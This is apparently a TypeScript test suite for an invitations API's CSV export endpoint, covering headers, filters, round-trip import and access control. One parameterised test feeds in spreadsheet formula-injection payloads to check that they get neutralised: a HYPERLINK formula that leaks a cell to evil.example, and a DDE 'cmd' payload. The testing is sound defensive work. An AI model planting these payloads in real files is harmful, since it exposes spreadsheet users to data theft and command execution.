import {afterEach, beforeEach, describe, expect, test} from 'vitest';
import {readCsv} from '../../../server/bulk/csv.ts';
import {dayMs} from '../../support/clock.ts';
import {TestService} from '../../support/harness.ts';
import {connectClient} from '../../support/signups.ts';

let service: TestService;

beforeEach(async () => {
  service = await TestService.start();
});

afterEach(() => service.stop());

const exportText = async (query = '', headers: Record<string, string> = {}): Promise<string> => {
  const {authorization = `Bearer ${service.keys.test}`} = headers;
  const response = await fetch(`${service.url}/v1/invitations/export${query}`, {
    headers: {...headers, authorization},
  });
  expect(response.status).toBe(200);
  // Not `text()`, which would take the byte-order mark away.
  return Buffer.from(await response.arrayBuffer()).toString('utf8');
};

/** One record for each row, by the names of the header. */
async function exportRows(
  query = '',
  headers: Record<string, string> = {},
): Promise<Record<string, string>[]> {
  const bytes = Buffer.from(await exportText(query, headers));
  const rows: string[][] = [];
  for await (const {cells} of readCsv(
    (async function* () {
      yield bytes;
    })(),
  )) {
    rows.push(cells);
  }
  const [header = [], ...rest] = rows;
  return rest.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index] ?? ''])));
}

const importText = (text: string, key: string) =>
  service.api('POST', '/v1/invitations/import', text, {
    'content-type': 'text/csv',
    authorization: `Bearer ${key}`,
  });

describe('GET /v1/invitations/export', () => {
  test('is a file that spreadsheets know as UTF-8, with a name', async () => {
    const {status, headers} = await service.api('GET', '/v1/invitations/export');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="invitations-test-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(await exportText()).toBe(
      '\ufeffclientName,clientEmail,clientPhone,connectionType,expiresInDays,allowedPhoneCountries,phoneNumberId,externalId,locale,returnUrl,sendEmail,' +
        'id,status,url,createdAt,expiresAt,completedAt,failureReason,senderId,connectedName,connectedNumber\r\n',
    );
  });

  test('says of each invitation what was asked for and what became of it, newest first', async () => {
    const invitation = await connectClient(service, {clientName: 'Ana', externalId: 'c-1'});
    const sender = (await service.api('GET', '/v1/senders')).body.items[0];
    const open = await service.invite({
      clientName: 'Ben "B", Jr.',
      clientPhone: '+34600111222',
      allowedPhoneCountries: ['es', 'MX'],
      expiresInDays: 3,
      metadata: {plan: 'pro'},
    });
    const rows = await exportRows();
    expect(rows.map((row) => row['id'])).toEqual([open.id, invitation.id]);
    expect(rows[0]).toMatchObject({
      clientName: 'Ben "B", Jr.',
      clientPhone: "'+34600111222",
      allowedPhoneCountries: 'ES MX',
      expiresInDays: '3',
      sendEmail: 'false',
      status: 'pending',
      url: open.url,
      createdAt: open.createdAt,
      expiresAt: open.expiresAt,
      completedAt: '',
      'metadata.plan': 'pro',
    });
    expect(rows[1]).toMatchObject({
      clientName: 'Ana',
      externalId: 'c-1',
      status: 'completed',
      completedAt: expect.stringMatching(/Z$/),
      senderId: sender.id,
      connectedNumber: `'${sender.phoneNumber}`,
      'metadata.plan': '',
    });
  });

  test('goes over many pages, and has a column for each note of any of them', async () => {
    const file = ['clientName,metadata.zeta,metadata.alpha'];
    for (let index = 0; index < 900; index += 1) file.push(`C${index},${index === 0 ? 'z' : ''},a${index}`);
    await importText(file.join('\n'), service.keys.test);
    const rows = await exportRows();
    expect(rows.map((row) => row['clientName'])).toEqual(
      Array.from({length: 900}, (_, index) => `C${899 - index}`),
    );
    expect(Object.keys(rows[0] ?? {}).slice(-2)).toEqual(['metadata.alpha', 'metadata.zeta']);
    expect(rows.at(-1)).toMatchObject({'metadata.zeta': 'z', 'metadata.alpha': 'a0'});
  });

  test('a note that is called like something every object has is empty where it was not set', async () => {
    await service.invite({clientName: 'With', metadata: {constructor: 'Bob', toString: 'x'}});
    await service.invite({clientName: 'Without'});
    expect(await exportRows()).toMatchObject([
      {clientName: 'Without', 'metadata.constructor': '', 'metadata.toString': ''},
      {clientName: 'With', 'metadata.constructor': 'Bob', 'metadata.toString': 'x'},
    ]);
  });

  test('takes the filters of the list; an expiry that nobody has written down counts', async () => {
    const soon = await service.invite({expiresInDays: 1});
    const later = await service.invite({expiresInDays: 9});
    service.clock.advance(2 * dayMs);
    const idsOf = async (query: string) => (await exportRows(query)).map((row) => row['id']);
    expect(await idsOf('?status=expired')).toEqual([soon.id]);
    expect(await idsOf('?status=pending')).toEqual([later.id]);
    expect((await service.api('GET', '/v1/invitations/export?status=lost')).status).toBe(400);
  });

  test.each([
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+9)*cmd',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])('%j is no formula in it', async (payload) => {
    await service.invite({externalId: payload, metadata: {[payload.slice(0, 40)]: payload}});
    const [row] = await exportRows();
    expect(row?.['externalId']).toBe(`'${payload}`);
    expect(row?.[`metadata.${payload.slice(0, 40)}`]).toBe(`'${payload}`);
    for (const cell of Object.entries(row ?? {}).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
  });

  test('an exported file makes the same invitations in another project, once', async () => {
    await service.invite({
      clientName: '=1+1, "quoted"',
      clientEmail: 'ana@example.com',
      clientPhone: '+34600111222',
      expiresInDays: 12,
      allowedPhoneCountries: ['ES', 'MX'],
      externalId: "'=kept",
      locale: 'pt-BR',
      metadata: {note: '-5\nlines; and, "more"', 'a;b': ' spaces '},
    });
    await service.invite({connectionType: 'messenger'});
    const file = await exportText();
    const {key} = await service.makeKey('test', 'Other');
    const {body} = await importText(file, key);
    expect(body).toMatchObject({rows: 2, created: 2, failed: 0});
    const wanted = ({
      clientName,
      clientEmail,
      clientPhone,
      connectionType,
      externalId,
      locale,
      metadata,
    }: any) => ({
      clientName,
      clientEmail,
      clientPhone,
      connectionType,
      externalId,
      locale,
      metadata,
    });
    const listOf = async (authorization?: string) =>
      (
        await service.api('GET', '/v1/invitations', undefined, authorization ? {authorization} : {})
      ).body.items.map(wanted);
    expect((await listOf(`Bearer ${key}`)).toReversed()).toEqual(await listOf());
    const [copy] = await exportRows('', {authorization: `Bearer ${key}`});
    expect(copy).toMatchObject({
      connectionType: 'whatsapp_waba',
      expiresInDays: '12',
      allowedPhoneCountries: 'ES MX',
    });
    expect((await importText(file, key)).body).toMatchObject({created: 0, existing: 2});
  });

  test('shows nothing of other projects and modes', async () => {
    const mine = await service.invite({clientName: 'mine'});
    await service.api(
      'POST',
      '/v1/invitations',
      {clientName: 'live'},
      {authorization: `Bearer ${service.keys.live}`},
    );
    const {key} = await service.makeKey('test', 'Other');
    await service.api('POST', '/v1/invitations', {metadata: {theirs: 'x'}}, {authorization: `Bearer ${key}`});
    const rows = await exportRows();
    expect(rows.map((row) => row['id'])).toEqual([mine.id]);
    expect(Object.keys(rows[0] ?? {})).not.toContain('metadata.theirs');
  });

  test('a session of the panel may export, one of a client or no key may not', async () => {
    const origin = 'https://back.example';
    const statusFor = async (fields: object) => {
      const {body} = await service.api('POST', '/v1/sessions', {origin, ...fields});
      const authorization = `Bearer ${body.session.clientSecret}`;
      return (await service.fetch('GET', '/v1/invitations/export', undefined, {authorization, origin}))
        .status;
    };
    expect(await statusFor({scope: 'manage'})).toBe(200);
    expect(await statusFor({externalId: 'c-1'})).toBe(401);
    expect((await service.fetch('GET', '/v1/invitations/export')).status).toBe(401);
  });
});
